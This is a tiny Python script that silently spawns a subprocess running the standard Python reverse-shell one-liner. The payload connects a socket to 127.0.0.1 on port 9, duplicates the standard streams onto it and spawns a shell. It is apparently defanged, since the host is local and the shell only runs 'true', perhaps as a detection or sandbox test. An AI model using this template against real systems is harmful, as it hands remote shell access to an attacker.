import subprocess, sys
LHOST, LPORT = "127.0.0.1", 9
one = ("import os,pty,socket;s=socket.socket();s.connect((%r,%d));"
       "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(['/bin/sh','-c','true'])") % (LHOST, LPORT)
subprocess.Popen([sys.executable, "-c", one], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
